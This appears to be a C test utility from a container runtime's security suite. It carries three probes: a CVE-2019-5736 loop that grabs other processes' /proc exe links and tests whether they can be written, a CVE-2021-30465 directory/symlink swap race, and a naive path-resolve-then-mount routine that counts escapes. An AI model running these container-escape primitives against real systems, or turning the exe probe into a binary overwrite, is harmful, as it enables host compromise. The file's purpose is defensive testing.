/* Attack probes for test/security (built static by the tests, run inside containers and, against
 * deliberately weak targets, on the host to show that each probe can succeed). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

/* CVE-2019-5736: hold an O_PATH fd on /proc/PID/exe of every other process whose exe
 * link contains FILTER, and keep trying to reopen it for writing (which succeeds once the
 * binary no longer runs, unless it is immutable). Writes back only the byte it read. */
static int exe_hunt(const char *filter, double seconds, const char *report)
{
	int held[4096], nheld = 0, wins = 0;
	char seen[4096][64];
	double end = now() + seconds;
	FILE *out = report ? fopen(report, "w") : stdout;
	if (!out)
		return 2;
	setvbuf(out, NULL, _IOLBF, 0);
	while (now() < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d))) {
			char p[64], link[PATH_MAX];
			ssize_t n;
			int fd, dup = 0;
			if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
				continue;
			snprintf(p, sizeof p, "/proc/%s/exe", e->d_name);
			n = readlink(p, link, sizeof link - 1);
			if (n < 0)
				continue;
			link[n] = 0;
			if (!strstr(link, filter))
				continue;
			for (int i = 0; i < nheld; i++)
				if (!strcmp(seen[i], e->d_name))
					dup = 1;
			if (dup || nheld >= 4096)
				continue;
			fd = open(p, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			fprintf(out, "HELD %s %s\n", e->d_name, link);
			snprintf(seen[nheld], sizeof seen[nheld], "%s", e->d_name);
			held[nheld++] = fd;
		}
		if (d)
			closedir(d);
		for (int i = 0; i < nheld; i++) {
			char p[64];
			int w;
			if (held[i] < 0)
				continue;
			snprintf(p, sizeof p, "/proc/self/fd/%d", held[i]);
			w = open(p, O_RDWR | O_CLOEXEC);
			if (w >= 0) {
				/* Opening is not enough (a sealed memfd opens but refuses
				 * writes): write back the byte that is there, which changes
				 * nothing but proves the file is writable. */
				char b;
				if (pread(w, &b, 1, 0) == 1 && pwrite(w, &b, 1, 0) == 1) {
					fprintf(out, "WROTE %s\n", seen[i]);
					wins++;
				} else {
					fprintf(out, "OPENED-WRITE-REFUSED %s %s\n", seen[i], strerror(errno));
				}
				close(w);
				close(held[i]);
				held[i] = -1;
			}
		}
		usleep(200);
	}
	fprintf(out, "DONE held=%d wins=%d\n", nheld, wins);
	return 0;
}

/* CVE-2021-30465: swap a directory and a symlink back and forth. */
static int exchange(const char *a, const char *b, double seconds)
{
	double end = now() + seconds;
	long n = 0;
	while (now() < end) {
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0) {
			perror("renameat2");
			return 1;
		}
		n++;
	}
	printf("exchanged %ld times\n", n);
	return 0;
}

/* The weak resolver the CVE exploited: resolve the path, then mount on the result. Run in a
 * private mount namespace; counts how often the mount landed outside BASE. */
static int naive_mount(const char *path, const char *base, double seconds)
{
	double end = now() + seconds;
	long tries = 0, escaped = 0;
	while (now() < end) {
		char real[PATH_MAX];
		tries++;
		if (!realpath(path, real))
			continue;
		usleep(50); /* the window between resolving and mounting */
		if (mount("tmpfs", real, "tmpfs", 0, "size=4k") == 0) {
			if (strncmp(real, base, strlen(base)) != 0)
				escaped++;
			umount2(real, MNT_DETACH);
		}
	}
	printf("naive mounts tried=%ld escaped=%ld\n", tries, escaped);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc >= 4 && !strcmp(argv[1], "exe-hunt"))
		return exe_hunt(argv[2], atof(argv[3]), argc > 4 ? argv[4] : NULL);
	if (argc == 5 && !strcmp(argv[1], "exchange"))
		return exchange(argv[2], argv[3], atof(argv[4]));
	if (argc == 5 && !strcmp(argv[1], "naive-mount"))
		return naive_mount(argv[2], argv[3], atof(argv[4]));
	fprintf(stderr, "usage: probe exe-hunt FILTER SECONDS [REPORT] | exchange A B SECONDS | naive-mount PATH BASE SECONDS\n");
	return 2;
}
